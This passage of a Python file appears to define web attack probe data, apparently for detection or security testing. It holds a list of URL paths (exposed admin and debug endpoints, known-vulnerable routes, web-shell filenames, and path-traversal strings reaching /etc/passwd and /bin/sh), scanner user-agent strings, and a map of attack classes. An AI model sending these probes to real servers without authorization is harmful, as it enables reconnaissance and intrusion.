/elmah.axd;/_profiler/phpinfo;/actuator/env;/actuator/heapdump;/actuator/gateway/routes;/jolokia/list;/manager/html;/host-manager/html;/jmx-console/;/invoker/JMXInvokerServlet
/wls-wsat/CoordinatorPortType;/solr/admin/cores;/script;/phpmyadmin/index.php;/pma/index.php;/adminer.php;/mysqladmin/;/boaform/admin/formLogin;/HNAP1/;/cgi-bin/luci/;stok=/locale
/GponForm/diag_Form;/mgmt/tm/util/bash;/remote/fgt_lang;/remote/logincheck;/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd;/vpn/../vpns/cfg/smb.conf;/+CSCOT+/translation-table
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php;/_ignition/execute-solution;/.vscode/sftp.json;/.idea/workspace.xml;/sftp-config.json;/composer.lock;/docker-compose.yml;/Jenkinsfile;/storage/logs/laravel.log
/wp-content/debug.log;/wp-admin/setup-config.php;/install.php;/app/etc/env.php;/wp-json/wp/v2/users/;/c99.php;/r57.php;/wso.php;/b374k.php;/alfa.php;/shell.php;/cmd.jsp;/uploads/shell.aspx
/images/cmd.php;/wp-content/uploads/2024/06/x.php;/wp-content/uploads/evil.phtml;/tmp/up.php;/aspxspy.aspx;/indoxploit.php;/uploads/avatar.php.jpg.php;/media/x.jsp;/marijuana.php;/p0wny-shell.php;/simple-backdoor.php
/WEB-INF/web.xml;/META-INF/MANIFEST.MF;/..;/manager/html;/static/..%252f..%252fetc/passwd;/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh;/icons/.%2e/%2e%2e/%2e%2e/etc/passwd;/..%c0%af..%c0%afetc/passwd
/api/jsonws/invoke;/druid/indexer/v1/sampler;/nacos/v1/auth/users;/v2/_catalog;/containers/json;/_all_dbs;/_cat/indices;/telescope/requests;/debug/pprof;/php.ini;/.user.ini;/.bash_history;/CVS/Root"""
PATHS = [path for path in PATHS.replace("/cgi-bin/luci/;stok", "/cgi-bin/luci/\0stok").replace("/..;/", "/..\0/").replace("\n", ";").split(";")]
PATHS = [path.replace("\0", ";") for path in PATHS]

SCANNERS = """sqlmap/1.7.2#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)
Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
gobuster/3.6
feroxbuster/2.10.0
Fuzz Faster U Fool v2.1.0
Wfuzz/3.1.0
DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
masscan/1.3 (https://github.com/robertdavidgraham/masscan)
Mozilla/5.0 zgrab/0.x
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)
Arachni/v1.6
w3af.org
Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix)
OpenVAS 9
ZmEu
Morfeus Fucking Scanner
Mozilla/5.0 (compatible; Nessus)
commix/v3.8
dirsearch
Havij
Mozilla/5.0 Burp Suite Professional burpsuite
OWASP ZAP/2.14
Mozilla/5.0 (compatible; Netsparker)
Jaeles v0.17
dalfox/2.9
xray
CensysInspect/1.1
Expanse, a Palo Alto Networks company, searches across the global IPv4 space""".split("\n")

BY_CLASS = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "rfi": RFI, "command": COMMAND, "php": PHP, "java": JAVA, "lookup": LOOKUP,
            "node_python": NODE, "ssrf": SSRF, "xxe": XXE, "template": TEMPLATE, "ldap_xpath": LDAP, "nosql": NOSQL, "splitting": SPLITTING}
